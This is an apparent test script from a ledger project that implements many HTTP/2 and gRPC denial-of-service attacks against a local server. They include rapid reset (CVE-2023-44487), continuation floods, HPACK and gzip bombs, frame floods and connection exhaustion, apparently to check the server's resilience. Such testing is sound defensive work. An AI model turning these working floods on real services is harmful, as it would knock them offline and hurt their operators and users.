# SPDX-License-Identifier: Apache-2.0
"""Clients without credentials that do to a gRPC server what none should, frame by frame.

::

    python tests/attackers.py ping_flood 7051 ca.pem 5

Each attack goes on for so many seconds and connects again whenever it is thrown out.
"""

import contextlib
import gzip
import resource
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Self

import grpc
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from fastledger.protos.common.common_pb2 import ChannelHeader, Header
from fastledger.protos.peer.proposal_pb2 import Proposal, SignedProposal
from waiting import pause

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENDORSER = "/protos.Endorser/ProcessProposal"
GATEWAY = "/gateway.Gateway/Evaluate"
HUGE = 99 << 20
PATIENCE_S = 10.0
PAUSE_S = 0.01
BATCH = 1_000
"""Frames that are written at once."""


@dataclass(frozen=True)
class Target:
    """A server on this machine.

    Attributes:
        port: Where it listens.
        roots: Who vouches for it; None for plain text.
    """

    port: int
    roots: Path | None = None

    def connect(self) -> socket.socket:
        """Connect, up to the end of TLS's handshake."""
        plain = socket.create_connection(("127.0.0.1", self.port), PATIENCE_S)
        if self.roots is None:
            return plain
        context = ssl.create_default_context(cafile=str(self.roots))
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        try:
            return context.wrap_socket(plain)
        except BaseException:
            plain.close()
            raise


class Connection:
    """HTTP/2 without its rules."""

    def __init__(self, target: Target, *, window: int = 1 << 20) -> None:
        """Connect, and say that each call may be sent so much."""
        self._socket = target.connect()
        self._encoder = Encoder()
        self._next = 1
        settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window})
        try:
            self.send(PREFACE + settings.serialize())
        except BaseException:
            self.close()
            raise

    def __enter__(self) -> Self:
        """Use the connection."""
        return self

    def __exit__(self, *failed: object) -> None:
        """Hang up."""
        self.close()

    def send(self, content: bytes) -> None:
        """Send bytes, whatever they are.

        Raises:
            OSError: The server has hung up, or takes nothing any more.
        """
        self._socket.settimeout(PATIENCE_S)
        self._socket.sendall(content)

    def frames(self, *frames: Frame) -> None:
        """Send frames."""
        self.send(b"".join(frame.serialize() for frame in frames))

    def call(
        self, path: str, content: bytes = b"", *, ends: bool = False, encoding: str = "identity"
    ) -> bytes:
        """Return what begins a call, with some bytes of its messages."""
        stream, self._next = self._next, self._next + 2
        fields = {
            ":method": "POST",
            ":scheme": "https",
            ":path": path,
            ":authority": "localhost",
            "content-type": "application/grpc",
            "te": "trailers",
            "grpc-encoding": encoding,
        }
        headers = HeadersFrame(stream, self._encoder.encode(fields), flags=["END_HEADERS"])
        if ends and not content:
            headers.flags.add("END_STREAM")
        if not content:
            return headers.serialize()
        flags = ["END_STREAM"] if ends else []
        return headers.serialize() + DataFrame(stream, content, flags=flags).serialize()

    @property
    def last(self) -> int:
        """The number of the call that was begun last."""
        return self._next - 2

    def drop_received(self) -> None:
        """Read and forget what has come.

        Raises:
            OSError: The server has hung up.
        """
        self._socket.setblocking(False)
        try:
            while self._socket.recv(1 << 16):
                pass
        except (BlockingIOError, ssl.SSLWantReadError):
            return
        raise ConnectionResetError("the server has hung up")

    def is_open(self) -> bool:
        """Whether the server has not hung up yet."""
        try:
            self.drop_received()
        except OSError:
            return False
        return True

    def close(self) -> None:
        """Hang up."""
        self._socket.close()


Attack = Callable[[Target, float], None]


def framed(message: bytes, *, compressed: bool = False) -> bytes:
    """A message as gRPC wants it."""
    return struct.pack(">BI", compressed, len(message)) + message


def announced(length: int, content: bytes = b"") -> bytes:
    """The begin of a message that never comes."""
    return struct.pack(">BI", 0, length) + content


def _again(target: Target, until: float, session: Callable[[Connection], None]) -> None:
    """Hold sessions one after another until the time is over."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), Connection(target) as connection:
            session(connection)
        time.sleep(PAUSE_S)


def _opened(target: Target, most: int, until: float, stack: ExitStack) -> Iterator[Connection]:
    """Connect as often as the server takes, at most so often."""
    for _ in range(most):
        if time.monotonic() >= until:
            return
        try:
            yield stack.enter_context(Connection(target))
        except OSError:
            return


def _hold(held: list[Connection], until: float) -> None:
    while time.monotonic() < until:
        held = [each for each in held if each.is_open()]
        pause(0.2, "between two looks at connections that are held for a time")


def _calls_that_stay(target: Target, until: float, path: str, calls: int, content: bytes) -> None:
    """Begin calls on 10 connections and leave them so."""
    with ExitStack() as stack:
        held = []
        for connection in _opened(target, 10, until, stack):
            with contextlib.suppress(OSError):
                for _ in range(0, calls // 10, 20):
                    connection.send(b"".join(connection.call(path, content) for _ in range(20)))
                    connection.drop_received()
                held.append(connection)
        _hold(held, until)


def unfinished_messages(target: Target, until: float) -> None:
    """Announce 99 MB a thousand times, and send 40 bytes of each."""
    _calls_that_stay(target, until, ENDORSER, 1_000, announced(HUGE, bytes(35)))


def filled_windows(target: Target, until: float) -> None:
    """Announce 99 MB, and send as much of it as the server takes on 12 connections."""

    with ExitStack() as stack:
        held = []
        for connection in _opened(target, 12, until, stack):
            held.append(connection)
            with contextlib.suppress(OSError):
                for _ in range(4):
                    connection.send(connection.call(ENDORSER, announced(HUGE, bytes(16_000))))
                    for _ in range(3):
                        connection.frames(DataFrame(connection.last, bytes(16_000)))
        _hold(held, until)


def headers_only_gateway(target: Target, until: float) -> None:
    """Begin 600 calls of the gateway, and send no message."""
    _calls_that_stay(target, until, GATEWAY, 600, b"")


def headers_only_endorser(target: Target, until: float) -> None:
    """Begin 2,600 calls of the endorser, and send no message."""
    _calls_that_stay(target, until, ENDORSER, 2_600, b"")


def headers_only_everywhere(target: Target, until: float) -> None:
    """Begin as many calls as the server takes."""
    _calls_that_stay(target, until, ENDORSER, 20_000, b"")


def empty_calls_never_taken(target: Target, until: float) -> None:
    """Call with empty messages, and let no answer come."""

    while time.monotonic() < until:
        with contextlib.suppress(OSError), Connection(target, window=0) as connection:
            for _ in range(24_000 // 100):
                calls = (connection.call(ENDORSER, framed(b""), ends=True) for _ in range(100))
                connection.send(b"".join(calls))
                connection.drop_received()
                if time.monotonic() >= until:
                    return
            _hold([connection], until)


def silent_connections(target: Target, until: float) -> None:
    """Hold 1,500 connections without a call."""
    with ExitStack() as stack:
        _hold(list(_opened(target, 1_500, until, stack)), until)


def silent_sockets(target: Target, until: float) -> None:
    """Hold 1,500 connections that do not begin TLS."""
    held = []
    with contextlib.suppress(OSError):
        while len(held) < 1_500:
            held.append(socket.create_connection(("127.0.0.1", target.port), PATIENCE_S))
    time.sleep(max(0, until - time.monotonic()))
    for each in held:
        each.close()


def _flood(frame: Callable[[], Frame], *, reads: bool = True) -> Attack:
    """Send a frame again and again."""

    def attack(target: Target, until: float) -> None:
        batch = frame().serialize() * BATCH

        def session(connection: Connection) -> None:
            connection.send(connection.call(ENDORSER))
            while time.monotonic() < until:
                connection.send(batch)
                if reads:
                    connection.drop_received()

        _again(target, until, session)

    return attack


def rapid_reset(target: Target, until: float) -> None:
    """Begin calls and take them back at once (CVE-2023-44487)."""

    def session(connection: Connection) -> None:
        while time.monotonic() < until:
            batch = []
            for _ in range(100):
                batch.append(connection.call(ENDORSER))
                batch.append(RstStreamFrame(connection.last, 8).serialize())
            connection.send(b"".join(batch))
            connection.drop_received()

    _again(target, until, session)


def made_you_reset(target: Target, until: float) -> None:
    """Begin calls and have the server take them back, by windows that overflow."""

    def session(connection: Connection) -> None:
        while time.monotonic() < until:
            batch = []
            for _ in range(100):
                batch.append(connection.call(ENDORSER))
                update = WindowUpdateFrame(connection.last, (1 << 31) - 1)
                batch.append(update.serialize())
            connection.send(b"".join(batch))
            connection.drop_received()

    _again(target, until, session)


def continuation_flood(target: Target, until: float) -> None:
    """Begin headers that never end."""

    def session(connection: Connection) -> None:
        connection.frames(HeadersFrame(1, Encoder().encode({":method": "POST"})))
        more = ContinuationFrame(1, b"\x00\x01a\x7f\x81\x7f" + b"a" * 256).serialize()
        while time.monotonic() < until:
            connection.send(more)
            connection.drop_received()

    _again(target, until, session)


def hpack_bomb(target: Target, until: float) -> None:
    """Name a large field once, and then by one byte, thousands of times."""
    large = b"\x40\x01a\x7f\x81\x1e" + b"a" * 4_000

    def session(connection: Connection) -> None:
        stream = 1
        while time.monotonic() < until:
            connection.frames(HeadersFrame(stream, large + b"\xbe" * 12_000, flags=["END_HEADERS"]))
            connection.drop_received()
            stream += 2

    _again(target, until, session)


def gzip_bomb(target: Target, until: float) -> None:
    """Send messages that are small and say that they are large once inflated."""
    bomb = framed(gzip.compress(bytes(64 << 20)), compressed=True)
    parts = [bomb[at : at + 16_000] for at in range(0, len(bomb), 16_000)]

    def session(connection: Connection) -> None:
        while time.monotonic() < until:
            connection.send(connection.call(ENDORSER, encoding="gzip"))
            connection.frames(*(DataFrame(connection.last, part) for part in parts))
            connection.frames(DataFrame(connection.last, b"", flags=["END_STREAM"]))
            connection.drop_received()

    _again(target, until, session)


def _calls(content: bytes, path: str) -> Attack:
    """Call again and again, as fast as the server takes it."""

    def attack(target: Target, until: float) -> None:
        def session(connection: Connection) -> None:
            while time.monotonic() < until:
                calls = (connection.call(path, content, ends=True) for _ in range(50))
                connection.send(b"".join(calls))
                connection.drop_received()
                connection.frames(WindowUpdateFrame(0, 1 << 16))

        _again(target, until, session)

    return attack


def one_byte_frames(target: Target, until: float) -> None:
    """Send a large message in frames of one byte."""

    def session(connection: Connection) -> None:
        while time.monotonic() < until:
            connection.send(connection.call(ENDORSER, announced(HUGE)))
            batch = DataFrame(connection.last, b"x").serialize() * BATCH
            for _ in range(500):
                connection.send(batch)
                connection.drop_received()

    _again(target, until, session)


def _asks(request: Callable[[], bytes]) -> Attack:
    """Ask one thing after the other, as a client of gRPC does."""

    def attack(target: Target, until: float) -> None:
        options = [("grpc.max_send_message_length", -1)]
        address = f"localhost:{target.port}"
        content = request()
        with (
            grpc.insecure_channel(address, options)
            if target.roots is None
            else grpc.secure_channel(
                address, grpc.ssl_channel_credentials(target.roots.read_bytes()), options
            )
        ) as channel:
            ask = channel.unary_unary(ENDORSER)
            while (left := until - time.monotonic()) > 0:
                with contextlib.suppress(grpc.RpcError):
                    ask(content, timeout=left)

    return attack


def long_names() -> bytes:
    """A proposal for a channel whose name has 2 MB, which a refusal would repeat."""
    channel = ChannelHeader(type=3, channel_id="a" * (2 << 20), tx_id="b" * (1 << 20))
    header = Header(channel_header=channel.SerializeToString())
    proposal = Proposal(header=header.SerializeToString()).SerializeToString()
    return SignedProposal(proposal_bytes=proposal, signature=b"none").SerializeToString()


ATTACKS: dict[str, Attack] = {
    "unfinished_messages": unfinished_messages,
    "filled_windows": filled_windows,
    "headers_only_gateway": headers_only_gateway,
    "headers_only_endorser": headers_only_endorser,
    "headers_only_everywhere": headers_only_everywhere,
    "empty_calls_never_taken": empty_calls_never_taken,
    "silent_connections": silent_connections,
    "silent_sockets": silent_sockets,
    "ping_flood": _flood(lambda: PingFrame(0, b"12345678")),
    "ping_flood_never_read": _flood(lambda: PingFrame(0, b"12345678"), reads=False),
    "settings_flood": _flood(lambda: SettingsFrame(0)),
    "window_update_flood": _flood(lambda: WindowUpdateFrame(0, 1)),
    "priority_flood": _flood(lambda: PriorityFrame(1, depends_on=0, stream_weight=1)),
    "unknown_flood": _flood(lambda: ExtensionFrame(99, 0, body=b"")),
    "empty_data_flood": _flood(lambda: DataFrame(1, b"")),
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "gzip_bomb": gzip_bomb,
    "unknown_methods": _calls(b"", "/nobody.Knows/This"),
    "calls_without_message": _calls(b"", ENDORSER),
    "junk_messages": _calls(framed(b"\xff" * 200), ENDORSER),
    "one_byte_frames": one_byte_frames,
    "large_messages": _asks(lambda: b"\xff" * (32 << 20)),
    "long_names": _asks(long_names),
}


def run(name: str, target: Target, seconds: float) -> None:
    """Attack a server for so many seconds."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    ATTACKS[name](target, time.monotonic() + seconds)


if __name__ == "__main__":
    attack, port, roots, seconds = sys.argv[1:]
    run(attack, Target(int(port), Path(roots) if roots else None), float(seconds))
